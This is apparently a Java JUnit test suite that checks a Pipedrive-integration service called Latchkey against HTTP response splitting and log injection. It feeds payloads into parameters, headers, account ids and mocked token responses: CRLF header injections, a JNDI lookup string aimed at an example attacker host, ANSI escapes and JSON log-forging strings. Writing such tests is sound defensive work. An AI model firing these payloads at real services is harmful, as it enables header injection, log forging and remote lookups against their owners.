package io.latchkey.local.attacks;

import static io.latchkey.installation.Entitlement.ACTIVE;
import static io.latchkey.installation.Entitlement.NONE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.OutputStreamAppender;
import ch.qos.logback.core.encoder.Encoder;
import com.nimbusds.jose.util.JSONObjectUtils;
import io.latchkey.lambda.FunctionLogging;
import io.latchkey.local.emulator.Fault;
import io.latchkey.local.journey.LogCapture;
import io.latchkey.local.journey.Page;
import io.latchkey.local.journey.Product;
import io.latchkey.local.journey.RunningLatchkey;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/**
 * Line breaks and control characters in every field that a request, Pipedrive, or the product can
 * fill. None of them adds a response header or a log line (CWE-113, CWE-117).
 */
class InjectionTest {

  private static final String MARK = "evil4077";

  @RegisterExtension static final RunningLatchkey latchkey = RunningLatchkey.asItComes();

  @RegisterExtension static final LogCapture log = new LogCapture();

  private static final Set<String> OUR_HEADERS =
      Set.of(
          "allow",
          "cache-control",
          "connection",
          "content-language",
          "content-length",
          "content-security-policy",
          "cross-origin-opener-policy",
          "content-type",
          "date",
          "location",
          "referrer-policy",
          "set-cookie",
          "vary",
          "www-authenticate",
          "x-content-type-options");

  /** Percent-encoded, as they go into a query or a form. */
  static final List<String> TRICKS =
      List.of(
          "%0d%0aSet-Cookie:%20" + MARK + "=1",
          "%0aLocation:%20https://" + MARK + ".example",
          "%0d" + MARK,
          "%00" + MARK,
          "%1b[2J%1b[31m" + MARK,
          "%08%7f" + MARK,
          "%c2%85" + MARK,
          "%e2%80%a8" + MARK + "%e2%80%a9",
          "%e5%98%8a%e5%98%8d" + MARK,
          "%c0%8d%c0%8a" + MARK,
          "%ff%fe" + MARK,
          "%ed%a0%80" + MARK,
          "%e2%80%ae" + MARK,
          "%250d%250a" + MARK,
          "%0d%0a%0d%0a<html>" + MARK,
          "%22,%22level%22:%22" + MARK,
          "$%7bjndi:ldap://" + MARK + ".example/a%7d",
          "%25n%25s{}" + MARK,
          "%u000d" + MARK,
          "%0" + MARK);

  static Stream<String> places() {
    return Stream.of(
        "GET /install?company_id=EVIL&user_id=1",
        "GET /install?company_id=1&user_id=EVIL",
        "GET /install?EVIL=1",
        "GET /callback?code=EVIL",
        "GET /callback?code=x&state=EVIL",
        "GET /callback?error=EVIL",
        "GET /callback?error=user_denied&state=EVIL",
        "GET /resume?assertion=EVIL",
        "GET /EVIL",
        "DELETE /callback?EVIL",
        "POST /resume attempt=EVIL&token=x&company_id=1&user_id=1&moves=false&decision=confirm",
        "POST /resume"
            + " attempt=AAAAAAAAAAAAAAAAAAAAAA&token=EVIL&company_id=1&user_id=1&moves=false&decision=confirm",
        "POST /resume decision=EVIL",
        "POST /resume EVIL",
        "GET /installations/EVIL/1/token?account=a",
        "GET /installations/1/EVIL/token?account=a",
        "GET /installations/1/1/token?account=EVIL",
        "GET /installations/1/1/token?account=a&rejected=EVIL",
        "GET /installations?account=EVIL",
        "GET /installations?account=a&cursor=EVIL",
        "DELETE /installations?account=EVIL",
        "DELETE /installations/1/EVIL?account=a");
  }

  @ParameterizedTest
  @MethodSource("places")
  void aParameterIsNeitherAHeaderNorALineOfTheLog(String place) {
    for (var trick : TRICKS) {
      var parts = place.replace("EVIL", trick).split(" ", 3);
      var answer =
          RawRequest.to(latchkey, parts[0], parts[1])
              .signed()
              .header("Content-Type", "application/x-www-form-urlencoded")
              .body(parts.length > 2 ? parts[2] : "")
              .sent();

      assertThat(answer.status()).as("%s", trick).isIn(200, 302, 400, 401, 403, 404, 405);
      addsNothing(answer);
    }
    isOneObjectALine(log.events());
    assertThat(ours(log.events())).doesNotContain(MARK);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "User-Agent",
        "Referer",
        "Origin",
        "Authorization",
        "Content-Type",
        "Cookie",
        "X-Forwarded-For",
        "X-Amzn-Trace-Id",
        "Accept-Language",
        "Sec-Fetch-Site"
      })
  void aHeaderIsNeitherAHeaderOfTheAnswerNorALineOfTheLog(String name) {
    var tricks =
        List.of(
            "\u001b[2J" + MARK,
            "\u0085" + MARK,
            "\u2028" + MARK,
            "\",\"a\":\"" + MARK,
            "${" + MARK + "}");
    for (var trick : tricks) {
      for (var target :
          List.of("GET /install", "GET /resume?assertion=x", "DELETE /callback", "POST /resume")) {
        var answer =
            RawRequest.to(latchkey, target.split(" ")[0], target.split(" ")[1])
                .header(name, trick)
                .sent();

        assertThat(answer.status()).isIn(302, 400, 401, 403);
        addsNothing(answer);
      }
    }
    isOneObjectALine(log.events());
    assertThat(ours(log.events())).doesNotContain(MARK);
  }

  /** An account may be called anything but control characters, and goes into redirects. */
  @Test
  void anAccountsIdIsEncodedWhereverAPersonIsSentWithIt() {
    var someone = latchkey.somebody();
    var id =
        "a\u2028b\u2029c\u560a\u560d d%0d%0ae\"<f>&status=g#h?i+j\u00fc"
            + MARK
            + someone.account().id();
    var ada = someone.forAccount(new Product.Account(id, "name"));
    ada.installsFromTheMarketplace();

    ada.comesBack(NONE);
    assertThat(ada.page().header("Location")).matches("[!-~]+").doesNotContain("\"", "<", "#");
    assertThat(ada.page().parameter("account")).isEqualTo(id);
    ada.comesBack(ACTIVE);
    ada.confirms();

    assertThat(ada.page().header("Location")).matches("[!-~]+").contains("?status=installed&");
    assertThat(ada.page().parameter("account")).isEqualTo(id);
    assertThat(ada.page().parameter("status")).isEqualTo("installed");
    isOneObjectALine(log.events());
    assertThat(ours(log.events())).doesNotContain(MARK);
  }

  /**
   * Latchkey does not log Pipedrive's response, and what it logs about the response stays on one
   * line.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"error\":\"invalid_grant\\r"
            + "\\n"
            + "{\\\"level\\\":\\\"ERROR\\\"}\",\"message\":\"evil4077\\u001b[2J\\u2028\"}",
        "{\"access_token\":\"evil4077\\r"
            + "\\n"
            + "X: y\",\"refresh_token\":\"r\",\"token_type\":\"Bearer\",\"expires_in\":3600}",
        "{\"token_type\":\"evil4077\\n\\n\"}",
        "evil4077\r\n\u0000\u001b[2J"
      })
  void whatPipedriveAnswersIsNoLineOfTheLog(String body) {
    var ada = latchkey.somebody();
    ada.installsFromTheMarketplace();
    latchkey.pipedrive().fault(Fault.status("/oauth/token", 400).body(body));
    ada.comesBack(ACTIVE);
    var other = latchkey.somebody();
    other.installsFromTheMarketplace();
    latchkey.pipedrive().fault(Fault.raw("/oauth/token", body));
    other.comesBack(ACTIVE);

    addsNothing(other.page());
    assertThat(ours(log.events())).contains("exchange").doesNotContain(MARK);
    isOneObjectALine(log.events());
  }

  /** Latchkey logs nothing of a request. If that ever changes, the value still ends no line. */
  @Test
  void aValueThatGotIntoTheLogWouldStayWithinItsLine() {
    LoggerFactory.getLogger("io.latchkey.attacks")
        .warn(
            "{}", "a\r\n{\"level\":\"ERROR\"}\u001b[2J\0\"\\", new IllegalStateException("b\r\nc"));

    assertThat(ours(log.events())).contains("\\r\\n", "IllegalStateException");
    isOneObjectALine(log.events());
  }

  private static void addsNothing(Page answer) {
    assertThat(answer.headers().allValues("Set-Cookie"))
        .allMatch(line -> line.startsWith("latchkey-"));
    assertThat(answer.headers().map().keySet())
        .allMatch(name -> OUR_HEADERS.contains(name.toLowerCase(Locale.ROOT)));
    assertThat(answer.headers().map().values())
        .allSatisfy(values -> assertThat(values).allMatch(value -> value.matches("[ -~]*")));
    assertThat(answer.headers().map().toString()).doesNotContain(MARK);
    assertThat(answer.body()).doesNotContain(MARK);
  }

  /**
   * Returns the functions' log lines. The local gateway's own lines contain the path, which the
   * access log in AWS does not.
   */
  private static String ours(List<ILoggingEvent> events) {
    return events.stream()
        .filter(event -> !event.getLoggerName().startsWith("io.latchkey.local"))
        .map(event -> new String(encoder().encode(event), UTF_8))
        .reduce("", String::concat);
  }

  /**
   * Formats the events by the functions' own configuration, and verifies that each is one object on
   * one line.
   */
  private static void isOneObjectALine(List<ILoggingEvent> events) {
    var encoder = encoder();
    assertThat(events).isNotEmpty();
    for (var event : events) {
      var line = new String(encoder.encode(event), UTF_8);
      assertThat(line).endsWith("\n");
      assertThat(line.strip()).doesNotContain("\n", "\r", "\u001b", "\0");
      assertThat(parses(line)).as(line).isTrue();
    }
  }

  private static boolean parses(String line) {
    try {
      return !JSONObjectUtils.parse(line).isEmpty();
    } catch (java.text.ParseException _) {
      return false;
    }
  }

  private static Encoder<ILoggingEvent> encoder() {
    var context = new LoggerContext();
    assertThat(new FunctionLogging().configure(context)).isNotNull();
    var appenders = context.getLogger("ROOT").iteratorForAppenders();
    return ((OutputStreamAppender<ILoggingEvent>) appenders.next()).getEncoder();
  }
}
